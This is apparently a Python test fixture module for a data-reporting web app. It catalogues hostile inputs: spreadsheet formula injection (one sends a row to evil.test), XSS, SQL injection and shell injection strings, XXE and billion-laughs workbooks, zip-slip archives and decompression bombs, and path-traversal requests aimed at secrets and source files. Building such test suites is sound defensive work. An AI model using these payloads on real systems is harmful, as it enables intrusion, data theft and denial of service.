"""The table of hostile inputs, by the place where they come in. Each has a name that says what it tries."""

import gzip
import io
import stat
import zipfile
from collections.abc import Callable

from data.imports import NamedBytes

SOUND = b"Order ID,Customer ID,Order Date,Amount\n1,ada,2026-01-05,10\n2,ben,2026-02-05,20\n"

# Texts for cells, headers, file names, filters, links: what a browser, a spreadsheet, a shell, a database or a template would run.
TEXTS: dict[str, str] = {
    "formula": "=1+1",
    "formula that calls a program": "=cmd|' /C calc'!A0",
    "formula that sends the row away": '=HYPERLINK("http://evil.test/?"&A1,"open")',
    "formula of the old kind": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula by a plus": "+1+1",
    "formula by a minus": "-1+1",
    "formula after a tab": "\t=1+1",
    "formula of full width": "\uff1d1+1",
    "script": "<script>window.pwned=1</script>",
    "script in an attribute": '"><img src=x onerror="window.pwned=1">',
    "script in a link": "[x](javascript:window.pwned=1)",
    "script in SVG": '<svg onload="window.pwned=1">',
    "Markdown image": "![x](http://evil.test/a.png)",
    "Markdown link": "[your bank](http://evil.test/)",
    "bare address": "http://evil.test/ www.evil.test me@evil.test",
    "Markdown of Streamlit": ":red[x] :material/home: :blue-badge[y] :streamlit:",
    "Markdown heading and list": "# h\n- a\n1. b\n> c",
    "HTML entity": "&lt;script&gt;&#x27;",
    "LaTeX": "$\\href{http://evil.test}{x}$",
    "SQL that drops": "'; drop table orders; --",
    "SQL that widens": "' or '1'='1",
    "SQL that reads files": "' union select content from read_text('/etc/passwd') --",
    "SQL pattern": "%_%",
    "template": "{{7*7}} ${7*7} #{7*7}",
    "format string": "{0.__class__.__mro__} {name} %s %(x)s %n",
    "path": "../../../../etc/passwd",
    "path of Windows": "..\\..\\windows\\win.ini",
    "shell": "$(touch /tmp/pwned); `id` | id & id",
    "terminal escape": "\x1b[2J\x1b]0;pwned\x07",
    "null byte": "a\x00b",
    "line breaks": "a\r\nSet-Cookie: pwned=1\r\n\r\n<html>",
    "right to left": "\u202egnp.exe",
    "private and unassigned characters": "\ue000\uffff\U0010ffff",
    "combining marks": "Z\u0351\u036b" * 60,
    "very long": "x" * 100_000,
    "JSON": '{"__proto__": {"x": 1}}',
    "XML entity": '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
}


def zipped(members: dict[str, bytes], *, encrypted: bool = False, link: bool = False) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            entry = zipfile.ZipInfo(name)
            entry.compress_type = zipfile.ZIP_DEFLATED
            if link:
                entry.external_attr = (stat.S_IFLNK | 0o777) << 16
            archive.writestr(entry, data)
    packed = bytearray(out.getvalue())
    if encrypted:
        for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
            packed[packed.index(mark) + offset] |= 1
    return bytes(packed)


def workbook(sheet: bytes, **more: bytes) -> bytes:
    """The least that is taken for an XLSX file, with this as its sheet."""
    content = (
        b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        b'<Override PartName="/xl/workbook.xml" '
        b'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
        b'<Override PartName="/xl/worksheets/sheet1.xml" '
        b'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
    )
    office = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    parts = {
        "[Content_Types].xml": content,
        "_rels/.rels": b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="r1" Type="' + office + b'/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": b'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="'
        + office
        + b'"><sheets><sheet name="a" sheetId="1" r:id="r1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="r1" Type="' + office + b'/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
        "xl/worksheets/sheet1.xml": sheet,
    }
    return zipped({**parts, **{name.replace("__", "/"): data for name, data in more.items()}})


_SHEET = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>%s</sheetData></worksheet>'
_LAUGHS = b"<!DOCTYPE l [<!ENTITY a 'ha'>" + b"".join(
    b"<!ENTITY %c '%s'>" % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9)
)

# Files as bytes: what they try, and how they are made.
FILES: dict[str, Callable[[], NamedBytes]] = {
    "path in an archive": lambda: NamedBytes("a.zip", zipped({"../../../../tmp/rapport-escaped.csv": SOUND})),
    "whole path in an archive": lambda: NamedBytes("a.zip", zipped({"/tmp/rapport-escaped.csv": SOUND})),
    "path of Windows in an archive": lambda: NamedBytes("a.zip", zipped({"..\\..\\rapport-escaped.csv": SOUND})),
    "symbolic link in an archive": lambda: NamedBytes("a.zip", zipped({"a.csv": b"/etc/passwd"}, link=True)),
    "archive with a password": lambda: NamedBytes("a.zip", zipped({"a.csv": SOUND}, encrypted=True)),
    "archive that holds itself": lambda: _nested(12),
    "archive of ten thousand files": lambda: NamedBytes("a.zip", zipped({f"{n}.csv": b"a" for n in range(10_001)})),
    "archive bomb": lambda: NamedBytes("a.zip", zipped({"a.csv": bytes(12 << 20)})),
    "archive that lies about sizes": lambda: _lying(),
    "gzip bomb": lambda: NamedBytes("a.csv.gz", gzip.compress(bytes(12 << 20), 9)),
    "archive cut short": lambda: NamedBytes("a.zip", zipped({"a.csv": SOUND})[:-30]),
    "workbook bomb": lambda: NamedBytes("a.xlsx", workbook(_SHEET % (b" " * (12 << 20)))),
    "workbook that reads a file": lambda: NamedBytes(
        "a.xlsx",
        workbook(
            b'<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
            + _SHEET % b'<row r="1"><c r="A1" t="inlineStr"><is><t>&x;</t></is></c></row>'
        ),
    ),
    "workbook of a billion laughs": lambda: NamedBytes(
        "a.xlsx",
        workbook(_LAUGHS + b"]>" + _SHEET % b'<row r="1"><c r="A1" t="inlineStr"><is><t>&j;</t></is></c></row>'),
    ),
    "workbook with a cell far away": lambda: NamedBytes(
        "a.xlsx", workbook(_SHEET % b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')
    ),
    "workbook of nothing": lambda: NamedBytes("a.xlsx", zipped({"xl/workbook.xml": b"<x"})),
    "Parquet that is none": lambda: NamedBytes("a.parquet", b"PAR1" + b"\xff" * 400 + b"PAR1"),
    "program": lambda: NamedBytes("a.csv", b"\x7fELF" + bytes(range(256)) * 20),
    "web page": lambda: NamedBytes("a.csv", b"<!doctype html><script>window.pwned=1</script>"),
    "ten thousand columns": lambda: NamedBytes(
        "a.csv", b",".join(b"c%d" % n for n in range(10_000)) + b"\n" + b"1," * 9_999 + b"1\n"
    ),
    "one line without an end": lambda: NamedBytes("a.csv", b"Order ID,Amount\n" + b"x" * (2 << 20)),
    "quote without an end": lambda: NamedBytes("a.csv", b'Order ID,Amount\n"' + b"1,2\n" * 100_000),
    "null bytes": lambda: NamedBytes("a.csv", SOUND.replace(b"ada", b"a\0a")),
    "half a character": lambda: NamedBytes("a.csv", SOUND + b"\xff\xfe\xe4"),
    "UTF-16 cut in a character": lambda: NamedBytes("a.csv", SOUND.decode().encode("utf-16")[:-1]),
    "headers that repeat": lambda: NamedBytes("a.csv", b"Order ID,Order ID,Amount,Amount\n1,2,3,4\n"),
    "headers that are formulas and scripts": lambda: NamedBytes(
        "a.csv", b"=1+1,<script>window.pwned=1</script>,![x](http://evil.test/a),'; drop table orders; --\n1,2,3,4\n"
    ),
    "numbers out of bounds": lambda: NamedBytes(
        "a.csv",
        SOUND + b"3,cho,2026-01-06,1e308\n4,cho,2026-01-06,-1e308\n5,cho,9999-12-31,nan\n6,cho,0000-00-00,inf\n",
    ),
}


def _nested(depth: int) -> NamedBytes:
    data = SOUND
    for _ in range(depth):
        data = zipped({"a.zip": data})
    return NamedBytes("a.zip", data)


def _lying() -> NamedBytes:
    """An archive whose directory says 10 bytes for a file of 12 MB."""
    packed = bytearray(zipped({"a.csv": bytes(12 << 20)}))
    place = packed.index(b"PK\x01\x02")
    packed[place + 24 : place + 28] = (10).to_bytes(4, "little")
    return NamedBytes("a.zip", bytes(packed))


# Requests to the server, as paths.
PATHS: dict[str, str] = {
    "path out of the static files": "/static/../../../../../../etc/passwd",
    "path out of the static files, written in percent": "/static/..%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
    "path written twice in percent": "/static/%252e%252e/%252e%252e/app.py",
    "path out of the media": "/media/../../app.py",
    "backslashes": "/static/..\\..\\app.py",
    "share of Windows": "//evil.test/share/a",
    "the source": "/app.py",
    "the access file": "/access.toml",
    "the secrets": "/.streamlit/secrets.toml",
    "the data": "/data/rapport.duckdb",
    "the app's own static folder": "/app/static/../app.py",
    "component that is none": "/component/..%2f..%2fapp.py/index.html",
    "upload of somebody else's session": "/_stcore/upload_file/00000000-0000-0000-0000-000000000000/x",
    "the agent's interface": "/_stcore/agent/interact",
    "null byte": "/nps%00.css",
    "line break": "/nps%0d%0aSet-Cookie:%20pwned=1",
}
